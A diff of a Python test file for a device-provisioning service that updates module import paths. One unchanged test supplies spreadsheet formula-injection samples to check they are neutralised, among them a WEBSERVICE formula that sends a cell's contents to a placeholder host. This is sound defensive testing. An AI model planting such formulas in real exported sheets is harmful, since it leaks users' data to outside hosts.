@@ -13,8 +13,8 @@ from tests.world import build_world, login
 from wuxin.errors import Denied, InvalidInput, NotFound
 from wuxin.security.policy import Principal
 from wuxin.security.secrets import token_hash
-from wuxin.services import provisioning
-from wuxin.services.credit import principal_for_username
+from wuxin.services.devices import provisioning
+from wuxin.services.credit.decisions import principal_for_username
 
 HEADER = "key,device_type,site,source_mode,attr.run_threshold_a,attr.machine_id"
 BRACELET = "manufacturing.current_bracelet"
@@ -269,7 +269,7 @@ def test_a_huge_csv_field_or_a_superscript_site_is_no_server_error(platform, liv
 
 
 def test_the_credentials_sheet_neutralises_formulas_in_site_names(platform, world):
-    from wuxin.services import registry
+    from wuxin.services.devices import registry
 
     hostile = ['=WEBSERVICE("http://x/?"&F2)', "+1+1", "@SUM(A1)", "-2+3"]
     for name in hostile:
